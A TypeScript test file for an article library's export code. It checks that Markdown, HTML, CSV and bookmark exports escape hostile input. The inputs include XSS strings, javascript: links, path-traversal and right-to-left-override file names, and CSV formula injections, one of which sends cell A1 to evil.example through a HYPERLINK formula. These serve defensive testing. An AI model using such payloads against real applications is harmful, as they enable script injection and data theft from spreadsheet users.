import 'fake-indexeddb/auto';
import { unzipSync } from 'fflate';
import { JSDOM } from 'jsdom';
import { beforeEach, expect, test } from 'vitest';
import { keyFigures } from '../../lib/figures/index.ts';
import { type Library, openLibrary } from '../../lib/library/database.ts';
import type { ExportName } from '../../lib/library/export/exporter.ts';
import { fileName } from '../../lib/library/export/file-name.ts';
import { exportArticles } from '../../lib/library/export/index.ts';
import { allIds } from '../../lib/library/export/load.ts';
import { saveArticle } from '../../lib/library/save.ts';
import { exportTools, importFile, tools } from './shelf.ts';

let library: Library;
let count = 0;
beforeEach(() => {
  count += 1;
  library = openLibrary(`export-${count}`);
});

const NOW = Date.UTC(2026, 10, 5);
async function save(
  title: string,
  html: string,
  more: { url?: string; tags?: string[] } = {},
): Promise<number> {
  const { url = `https://a.example/${encodeURIComponent(title.toWellFormed())}`, tags = [] } = more;
  const article = {
    url,
    title,
    language: 'en',
    ...tools.clean(html, url),
    site: 'The Test',
    published: '2026-10-01',
  };
  const { id } = await saveArticle(library, article, keyFigures(article), NOW);
  await library.articles.update(id, { tags });
  return id;
}
async function run(format: ExportName, ids?: number[]) {
  const file = await exportArticles(library, ids ?? (await allIds(library)), format, exportTools, {
    now: NOW,
  });
  return { ...file, text: await file.blob.text(), bytes: new Uint8Array(await file.blob.arrayBuffer()) };
}
async function rowsOf(format: ExportName): Promise<Record<string, string>[]> {
  const [head = [], ...rows] = rfc4180((await run(format)).text.replace(/^\ufeff/u, ''));
  for (const row of rows) expect(row).toHaveLength(head.length);
  return rows.map((cells) => Object.fromEntries(head.map((name, at) => [name, cells[at] ?? ''])));
}

/** The records of a CSV by the letter of RFC 4180, by nothing that writes it. */
function rfc4180(text: string): string[][] {
  const records: string[][] = [];
  for (let at = 0, record: string[] = []; at < text.length; ) {
    const [field = '', quoted, bare, end] =
      /^(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/u.exec(text.slice(at)) ?? [];
    if (field === '') throw new Error(`No field at ${at}: ${text.slice(at, at + 40)}`);
    record.push(quoted?.replaceAll('""', '"') ?? bare ?? '');
    at += field.length;
    if (end === ',') continue;
    records.push(record);
    record = [];
  }
  return records;
}

test('Markdown of one article: front matter, figures as a table, text with tables, dollars escaped', async () => {
  const id = await save(
    'Budget: $1.2bn',
    `<p>It rose from $3,500 to $5,000 for <a href="https://a.example/x_y">each</a> family.</p>
<table><caption>Cost in <i>$</i></caption><tr><th>Year</th><th>$ | €</th></tr><tr><td>2026</td><td>$48 million</td></tr></table><pre><code>echo $HOME</code></pre>`,
    { tags: ['economy', 'a: b'] },
  );
  await library.highlights.add({
    id: crypto.randomUUID(),
    articleId: id,
    start: 0,
    end: 3,
    quote: { exact: 'It rose from $3,500', prefix: '', suffix: '' },
    note: 'check *this*',
    createdAt: NOW,
  });
  const { name, text, blob } = await run('markdown', [id]);
  expect(name).toBe('Budget $1.2bn.md');
  expect(blob.type).toBe('text/markdown');
  expect(text).toMatch(
    /^---\ntitle: "Budget: \$1\.2bn"\nurl: "https:\/\/a\.example\/Budget%3A%20%241\.2bn"\nsite: "The Test"\npublished: "2026-10-01"\nsaved: "2026-11-05T00:00:00\.000Z"\nlang: "en"\ntags: \["economy", "a: b"\]\n---\n\n# Budget: \\\$1\.2bn\n/u,
  );
  expect(text).toContain('It rose from \\$3,500 to \\$5,000 for [each](https://a.example/x_y) family.');
  expect(text).toContain('| Year | \\$ \\| € |\n| --- | --- |\n| 2026 | \\$48 million |');
  expect(text).toContain('Cost in \\$\n\n| Year');
  expect(text).toContain('echo $HOME');
  expect(text).toContain('## Highlights\n\n> It rose from \\$3,500\n\ncheck \\*this\\*');
  // Every dollar sign outside front matter and code has its backslash.
  const body = text
    .split('---\n')
    .slice(2)
    .join('')
    .replace(/```.*?```/gsu, '');
  expect(body.match(/(?<!\\)\$/gu)).toBeNull();
});

test('hostile text and HTML are inert in Markdown', async () => {
  const title =
    '](javascript:alert(1)) [x](https://evil.example) `code` <script>1</script> | pipe\n# heading\n---\nfoo: bar';
  const id = await save(
    title,
    `<p>&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;b&amp;gt; [a](javascript:x) https://evil.example www.evil.example <img src=x onerror=x()><a href="javascript:x()">c</a></p><table><caption>&lt;img src=x&gt;</caption><tr><td>1</td></tr></table>`,
    { url: 'https://a.example/h', tags: ['a, b', '- e', '#f', '\'g"', '\u202eh'] },
  );
  const { text } = await run('markdown', [id]);
  const [, front = '', ...rest] = text.split('---\n');
  const body = rest.join('---\n');
  expect(front).toContain('tags: ["a, b", "- e", "#f", "\'g\\"", "\\u202eh"]');
  expect(front.split('\n').filter((line) => /^(?:foo|#)/u.test(line))).toEqual([]);
  expect(body.match(/^# .*$/mu)?.[0]).toBe(
    '# \\]\\(javascript:alert\\(1\\)\\) \\[x\\]\\(https\\://evil.example\\) \\`code\\` \\<script\\>1\\</script\\> \\| pipe \\# heading --- foo: bar',
  );
  expect(body).not.toMatch(/(?<!\\)</u);
  expect(body).not.toMatch(/(?<!\\)\]\(/u);
  expect(body).not.toMatch(/(?<!\\):\/\/|www\.(?!\\)evil/u);
});

test('several articles make a zip of files with safe names, each its own', async () => {
  const titles = [
    '../../../etc/passwd',
    'CON',
    'con',
    'a/b\\c:d*e?f"g<h>i|j',
    '.hidden',
    'x'.repeat(300),
    'exe\u202egpj.scr',
    '',
    '   ',
    'tăng trưởng 5%',
    'report.html.exe',
    'null\u0000byte',
    'trailing. ',
    'Lpt1.txt',
    'Điểm '.repeat(60),
    'same',
    'SAME',
  ];
  for (const [n, title] of titles.entries())
    await save(title, '<p>Good 5%</p>', { url: `https://a.example/${n}` });
  for (const [format, extension] of [
    ['markdown', '.md'],
    ['html', '.html'],
  ] as const) {
    const { name, bytes, articles } = await run(format);
    expect(name).toBe(`readout-${format}-2026-11-05.zip`);
    expect(articles).toBe(titles.length);
    const names = Object.keys(unzipSync(bytes));
    expect(new Set(names.map((one) => one.toLowerCase())).size).toBe(titles.length);
    for (const one of names) {
      expect(one.endsWith(extension)).toBe(true);
      expect(one.length).toBeLessThanOrEqual(120);
      expect(new TextEncoder().encode(one).length).toBeLessThan(250);
      expect(one).not.toMatch(/[<>:"/\\|?*\p{Cc}\p{Cf}]|^[. ]|[. ]\.[a-z]+$/u);
      expect(one).not.toMatch(/^(?:con|lpt1)\./iu);
    }
  }
  expect(fileName('tăng trưởng 5%'.normalize('NFD'), 'md')).toBe('tăng trưởng 5%.md');
});

test('articles as CSV: no cell is a formula, and a parser reads the same texts again', async () => {
  const formulas = [
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    '+1+1',
    '-2+3',
    '@SUM(1,1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '＝1+1',
    ' =1+1',
    "'=1+1",
    '"=1+1',
  ];
  const others = ['say "hi", she\nsaid; 5%', 'Tăng 5%'];
  for (const title of [...formulas, ...others])
    await save(title, '<p>Good</p>', { tags: [title.trim() || 't'] });
  const rows = await rowsOf('articles');
  const titles = rows.map(({ title }) => title ?? '');
  expect([...titles].sort()).toEqual([...formulas.map((text) => `'${text}`), ...others].sort());
  for (const cell of rows.flatMap((row) => Object.values(row)))
    expect(cell).not.toMatch(/^[\s"]*[=+@＝]|^-\D/u);
  const { text, bytes } = await run('articles');
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  expect(text.replace(/\r\n/gu, '')).not.toMatch(/"\n"/u);
});

test('figures as CSV: values are numbers, texts are as printed, each with its sentence and a link to it', async () => {
  await save(
    'T',
    '<p>Net income fell -5.2% to $48 million. Turnout was 08/17 districts, between 3% and 5%.</p>',
    { url: 'https://a.example/t' },
  );
  const rows = await rowsOf('figures');
  const money = rows.find(({ unit_kind }) => unit_kind === 'money');
  expect(money).toMatchObject({
    value: '48000000',
    currency: 'USD',
    unit: 'USD',
    article_title: 'T',
    source: 'The Test',
    published: '2026-10-01',
    lang: 'en',
  });
  expect(money?.sentence).toContain('fell -5.2% to $48 million');
  expect(money?.quote_url).toMatch(/^https:\/\/a\.example\/t#:~:text=Net/u);
  const { text } = await run('figures');
  for (const { value, value_to } of rows) {
    expect(value).toMatch(/^-?\d+(?:\.\d+)?$/u);
    expect(value_to).toMatch(/^(?:-?\d+(?:\.\d+)?)?$/u);
  }
  expect(text).not.toMatch(/"[=+@]|NaN|Infinity|null|undefined|object/u);
});

test('the way of a figure, its bound and the level it came from go along into every table', async () => {
  const id = await save(
    'Ferry',
    '<p>Passenger numbers rose by about 12% last year. The fare rose from $3.50 to $4.20 in June.</p>',
  );
  expect((await run('markdown', [id])).text).toContain('| up about 12% | Passenger numbers, last year |');
  expect((await run('markdown', [id])).text).toContain('| \\$4.20, from \\$3.50 |');
  expect((await run('html', [id])).text).toContain('<th>up about 12%</th><td>Passenger numbers');
  expect((await rowsOf('articles'))[0]?.figures).toContain('up about 12% Passenger numbers');
  expect(await rowsOf('figures')).toMatchObject([
    { value: '12', bound: 'about', direction: 'up', from_value: '' },
    { value: '4.2', bound: '', from_value: '3.5' },
    { value: '3.5', bound: '', from_value: '' },
  ]);
});

test('HTML stands alone: title escaped, policy set, nothing runs or loads', async () => {
  const id = await save('<b>up</b> & "5%"', '<p>Good 5%</p>', { url: 'https://a.example/?a=1&b="2"' });
  // As a hostile row would stand in the database.
  await library.bodies.update(id, {
    html: '<p onclick="x()">Hi<script>window.bad=1</script><img src="https://evil.example/p.gif"></p>',
  });
  const { text, name } = await run('html', [id]);
  expect(name).toBe('b up b & 5%.html');
  const { window } = new JSDOM(text, { runScripts: 'dangerously' });
  expect(window.document.title).toBe('<b>up</b> & "5%"');
  expect(window.document.querySelector('h1')?.textContent).toBe('<b>up</b> & "5%"');
  expect(window.document.querySelector('meta[http-equiv]')?.getAttribute('content')).toContain(
    "default-src 'none'",
  );
  expect(window.document.querySelectorAll('script,img,iframe,[onclick]')).toHaveLength(0);
  expect(window).not.toHaveProperty('bad');
});

test('bookmarks read again keep addresses, titles, tags, dates and states', async () => {
  const id = await save('Giá & <gạo> "tăng"', '<p>5%</p>', {
    url: 'https://a.example/1?a=1&b=2',
    tags: ['kinh tế', 'a"b'],
  });
  await save('Hai', '<p>5%</p>', { url: 'https://a.example/2' });
  await library.articles.update(id, { state: 'archive' });
  const { blob } = await run('bookmarks');
  const other = openLibrary(`export-other-${count}`);
  expect(await importFile(other, blob)).toMatchObject({ formats: ['netscape'], added: 2, links: 2 });
  const rows = await other.articles.orderBy('key').toArray();
  expect(rows).toMatchObject([
    {
      url: 'https://a.example/1?a=1&b=2',
      title: 'Giá & <gạo> "tăng"',
      tags: ['kinh tế', 'a"b'],
      state: 'archive',
      savedAt: NOW,
    },
    { url: 'https://a.example/2', title: 'Hai', tags: [], state: 'inbox' },
  ]);
});

test('bookmarks are what a browser reads: its own HTML parser finds folders, addresses, times and tags', async () => {
  const titles = ['Giá & <gạo> "tăng"', '</A></DL><script>x()</script>', '', 'Hai\ndòng'];
  const ids: number[] = [];
  for (const [n, title] of titles.entries())
    ids.push(
      await save(title, '<p>5%</p>', { url: `https://a.example/${n}?a=1&b="<2>"`, tags: ['a,b', '<i>"c"'] }),
    );
  await library.articles.update(ids[1] ?? 0, { state: 'archive' });
  const { text } = await run('bookmarks');
  expect(text.startsWith('<!DOCTYPE NETSCAPE-Bookmark-file-1>\n')).toBe(true);
  const { document } = new JSDOM(text).window;
  expect(document.querySelectorAll('script')).toHaveLength(0);
  const links = [...document.querySelectorAll('dt > a')].map((link) => ({
    folder: link.closest('dl')?.closest('dt')?.querySelector('h3')?.textContent,
    url: link.getAttribute('href'),
    title: link.textContent,
    added: Number(link.getAttribute('add_date')) * 1000,
    tags: link.getAttribute('tags')?.split(','),
  }));
  const expected = titles.map((title, n) => ({
    folder: n === 1 ? 'Archive' : 'Inbox',
    url: `https://a.example/${n}?a=1&b="<2>"`,
    title: title.replace('\n', ' '),
    added: NOW,
    tags: ['a b', '<i>"c"'],
  }));
  const order = (a: { url: string | null }, b: { url: string | null }) =>
    (a.url ?? '').localeCompare(b.url ?? '');
  expect(links.sort(order)).toEqual(expected);
});

test('only what was chosen is exported, in its order; one that is gone is passed over', async () => {
  const ids = [];
  for (const title of ['A', 'B', 'C']) ids.push(await save(title, '<p>x</p>'));
  const [a = 0, , c = 0] = ids;
  const { text, articles } = await run('json', [c, 999, a]);
  expect(articles).toBe(2);
  expect(JSON.parse(text).articles.map(({ title }: { title: string }) => title)).toEqual(['C', 'A']);
  await library.articles.update(a, { deletedAt: NOW });
  expect((await allIds(library)).includes(a)).toBe(false);
});
